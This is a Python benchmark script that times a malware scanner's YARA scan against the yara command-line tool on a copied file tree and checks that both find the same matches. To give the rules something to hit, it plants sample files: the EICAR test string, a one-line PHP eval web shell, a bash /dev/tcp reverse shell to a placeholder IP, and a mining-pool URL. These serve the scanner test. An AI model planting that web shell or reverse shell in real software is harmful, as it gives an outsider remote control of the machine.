"""StackWarden's YARA scan vs Debian's `yara` command-line tool: same rules, same tree, one run.

The tree is a copy (made once, cached) of real binaries and sources: a Python virtualenv's
site-packages, the Python standard library and shared libraries from /usr/lib, about 450 MB.
The rules are StackWarden's default set, handed to `yara` as the same files (one namespace
each). Both sides use the machine's cores: `yara -r -p N` threads, and N StackWarden workers
(forked processes for a directory of many files, else threads: yara-python releases the GIL
while it scans, but per-file Python does not).
CPU time (user + system, workers included) is printed beside wall time: on a machine shared
with other work, CPU time is the steadier measure of the work each side does.

Measured, median of `--runs` after one warm-up run of each (page cache and rule cache warm):
  * yara CLI: `yara -r -p N -N -w RULES… TREE` as a whole process;
  * StackWarden library: `scan_directory(TREE, archives off)` in this process (YARA only, as
    the CLI does: no archive members, and no hashing since no blocklist is set), and the same
    with threads only;
  * StackWarden CLI: `stackwarden malware scan TREE --no-archives` as a whole process;
  * StackWarden default: the library with archive members scanned too (more work than yara).
Both sides must report the same (rule, file) matches; the script says if they differ.

    .venv/bin/python benchmarks/yara_vs_cli.py [--runs 3] [--tree DIR] [--mb 450]
"""

from __future__ import annotations

import argparse
import os
import resource
import shutil
import statistics
import subprocess
import sys
import sysconfig
import time
from pathlib import Path

CACHE = Path.home() / ".cache" / "stackwarden-bench"
MAX_FILE = 64 * 1024 * 1024  # StackWarden's YARA limit per file: keep both sides comparable


def sources() -> list[Path]:
    """Where the tree's files come from, in order, until the size budget is spent."""
    site = Path(sysconfig.get_paths()["purelib"])
    return [p for p in (site, Path("/usr/lib/python3.11"), Path("/usr/lib/python3"),
                        Path("/usr/lib/x86_64-linux-gnu")) if p.is_dir()]


# A few planted samples, so "same matches on both sides" compares something.
PLANTED = {
    "planted/eicar.com": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    "planted/up.php": b"<?php @eval($_POST['x']); ?>\n",
    "planted/health.sh": b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n",
    "planted/config.json": b'{"url": "stratum+tcp://pool.example.net:3333"}\n',
}


def plant(root: Path) -> None:
    for name, data in PLANTED.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


def build_tree(root: Path, budget: int) -> Path:
    """Copy regular files (no symlinks, none over 64 MiB) until `budget` bytes, once."""
    marker = root / ".complete"
    if marker.exists():
        plant(root)
        return root
    shutil.rmtree(root, ignore_errors=True)
    root.mkdir(parents=True)
    print(f"building the benchmark tree in {root} (once) …", file=sys.stderr)
    total = 0
    for index, source in enumerate(sources()):
        for dirpath, dirnames, filenames in os.walk(source):
            dirnames.sort()
            for name in sorted(filenames):
                src = Path(dirpath) / name
                try:
                    if src.is_symlink() or not src.is_file():
                        continue
                    size = src.stat().st_size
                    if size > MAX_FILE or total + size > budget:
                        continue
                    dest = root / f"src{index}" / src.relative_to(source)
                    dest.parent.mkdir(parents=True, exist_ok=True)
                    shutil.copyfile(src, dest)
                    total += size
                except OSError:
                    continue
    plant(root)
    marker.write_text(str(total))
    return root


def rule_args() -> list[str]:
    from stackwarden.detect.malware.yara_rules import rule_files

    return [f"{f.namespace.replace('/', '_')}:{f.path}" for f in rule_files([])]


def cpu_seconds(who: int) -> float:
    """User + system CPU time of this process (RUSAGE_SELF) or its waited-for children."""
    usage = resource.getrusage(who)
    return usage.ru_utime + usage.ru_stime


class Timing:
    """Wall and CPU seconds of one measured call."""

    def __init__(self, who: int) -> None:
        self.who = who

    def __enter__(self) -> Timing:  # noqa: PYI034 - a plain class, never subclassed
        self.wall0, self.cpu0 = time.perf_counter(), cpu_seconds(self.who)
        return self

    def __exit__(self, *exc: object) -> None:
        self.wall = time.perf_counter() - self.wall0
        self.cpu = cpu_seconds(self.who) - self.cpu0


def run_yara_cli(tree: Path, threads: int) -> tuple[Timing, set[tuple[str, str]]]:
    with Timing(resource.RUSAGE_CHILDREN) as timing:
        done = subprocess.run(["yara", "-r", "-p", str(threads), "-N", "-w", *rule_args(),
                               str(tree)], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise SystemExit(f"yara failed: {done.stderr.strip()[:500]}")
    hits = set()
    for line in done.stdout.splitlines():
        rule, _, path = line.partition(" ")
        hits.add((rule, "/" + str(Path(path).relative_to(tree))))
    return timing, hits


def run_library(tree: Path, threads: int, archives: bool, processes: bool | None = None
                ) -> tuple[Timing, set[tuple[str, str]], int]:
    from stackwarden.detect.malware import MalwareConfig, scan_directory

    # RUSAGE_SELF + RUSAGE_CHILDREN: the forked workers' CPU time counts too
    with Timing(resource.RUSAGE_SELF) as timing, Timing(resource.RUSAGE_CHILDREN) as workers:
        result = scan_directory(tree, MalwareConfig(scan_archives=archives), workers=threads,
                                processes=processes)
    timing.cpu += workers.cpu
    return timing, {(f.id, f.location.path) for f in result.findings}, result.files


def run_our_cli(tree: Path) -> Timing:
    with Timing(resource.RUSAGE_CHILDREN) as timing:
        done = subprocess.run([sys.executable, "-m", "stackwarden", "malware", "scan",
                               str(tree), "--no-archives", "-q", "-f", "json"],
                              capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise SystemExit(f"stackwarden failed: {done.stderr.strip()[:500]}")
    return timing


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--tree", type=Path, default=None)
    parser.add_argument("--mb", type=int, default=450, help="size of the copied tree")
    parser.add_argument("--threads", type=int, default=os.cpu_count() or 2)
    args = parser.parse_args()
    if shutil.which("yara") is None:
        raise SystemExit("the yara CLI is missing (scripts/install-system-deps installs it)")
    tree = args.tree or build_tree(CACHE / f"yara-tree-{args.mb}mb", args.mb * 1024 * 1024)
    version = subprocess.run(["yara", "--version"], capture_output=True, text=True,
                             check=False).stdout
    import yara

    # Warm-up: page cache for the tree, compiled-rule cache for StackWarden.
    run_yara_cli(tree, args.threads)
    _, ours_hits, files = run_library(tree, args.threads, archives=False)
    runs: dict[str, list[Timing]] = {"cli": [], "lib": [], "threads": [], "our_cli": [],
                                     "full": []}
    cli_hits: set[tuple[str, str]] = set()
    for _ in range(args.runs):  # interleaved, so load from other processes hits both sides
        timing, cli_hits = run_yara_cli(tree, args.threads)
        runs["cli"].append(timing)
        timing, ours_hits, files = run_library(tree, args.threads, archives=False)
        runs["lib"].append(timing)
        runs["threads"].append(run_library(tree, args.threads, archives=False,
                                           processes=False)[0])
        runs["our_cli"].append(run_our_cli(tree))
        runs["full"].append(run_library(tree, args.threads, archives=True)[0])
    size = sum(p.stat().st_size for p in tree.rglob("*") if p.is_file() and not p.is_symlink())
    mb = size / 1e6
    wall = {k: statistics.median(t.wall for t in v) for k, v in runs.items()}
    cpu = {k: statistics.median(t.cpu for t in v) for k, v in runs.items()}
    print(f"tree: {tree} — {files} files, {mb:.0f} MB; {len(rule_args())} rule files; "
          f"{args.threads} threads each; median of {args.runs} runs; load average before: "
          f"{os.getloadavg()[0]:.1f}")
    labels = {
        "cli": f"yara CLI {version.strip()} (-r -p {args.threads})",
        "lib": f"StackWarden library (yara-python {yara.__version__}, archives off)",
        "threads": "StackWarden library, threads only (no forked workers)",
        "our_cli": "StackWarden CLI process (--no-archives)",
        "full": "StackWarden library, archives scanned too",
    }
    for key, label in labels.items():
        ratio = "" if key == "cli" else \
            f"  wall ratio {wall[key] / wall['cli']:.2f}×, CPU ratio {cpu[key] / cpu['cli']:.2f}×"
        print(f"{label:<58} wall {wall[key]:6.2f} s ({mb / wall[key]:4.0f} MB/s)  "
              f"CPU {cpu[key]:6.2f} s{ratio}")
    if ours_hits == cli_hits:
        print(f"matches: identical ({len(cli_hits)} (rule, file) pairs)")
    else:
        print(f"matches DIFFER: only yara {sorted(cli_hits - ours_hits)[:10]}, "
              f"only StackWarden {sorted(ours_hits - cli_hits)[:10]}")


if __name__ == "__main__":
    main()
